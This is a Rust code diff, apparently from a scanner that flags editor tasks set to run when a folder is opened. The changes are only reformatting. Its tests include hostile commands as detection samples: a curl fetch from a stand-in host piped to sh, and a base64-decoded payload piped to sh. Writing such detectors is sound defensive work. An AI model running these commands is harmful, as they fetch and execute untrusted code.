@@ -11,7 +11,9 @@ use crate::model::{Hit, HitKind};
 use crate::scope::Scope;
 
 /// Interpreters that run a script file.
-const INTERPRETERS: &[&str] = &["node", "bun", "deno", "python", "python3", "sh", "bash", "zsh"];
+const INTERPRETERS: &[&str] = &[
+    "node", "bun", "deno", "python", "python3", "sh", "bash", "zsh",
+];
 
 /// Checks each configuration the walk found.
 pub(crate) fn check(scope: &Scope, files: &[std::path::PathBuf]) -> Vec<Hit> {
@@ -93,16 +95,19 @@ fn folder_open_commands(value: &Value) -> Vec<String> {
     };
     tasks
         .iter()
-        .filter(|t| {
-            t.pointer("/runOptions/runOn").and_then(Value::as_str) == Some("folderOpen")
-        })
+        .filter(|t| t.pointer("/runOptions/runOn").and_then(Value::as_str) == Some("folderOpen"))
         .map(|t| {
             let mut line = t
                 .get("command")
                 .and_then(Value::as_str)
                 .unwrap_or_default()
                 .to_owned();
-            for arg in t.get("args").and_then(Value::as_array).into_iter().flatten() {
+            for arg in t
+                .get("args")
+                .and_then(Value::as_array)
+                .into_iter()
+                .flatten()
+            {
                 if let Some(a) = arg.as_str() {
                     line.push(' ');
                     line.push_str(a);
@@ -148,7 +153,12 @@ mod tests {
         assert!(suspicious("/usr/bin/bun /home/a/.vscode/x.js").is_some());
         assert!(suspicious("curl -s http://192.0.2.1/x | sh").is_some());
         assert!(suspicious("echo aGk= | base64 -d | sh").is_some());
-        for ok in ["cargo fmt --all", "npm run watch", "npx prettier --write .", "python -m pytest"] {
+        for ok in [
+            "cargo fmt --all",
+            "npm run watch",
+            "npx prettier --write .",
+            "python -m pytest",
+        ] {
             assert_eq!(suspicious(ok), None, "{ok}");
         }
     }
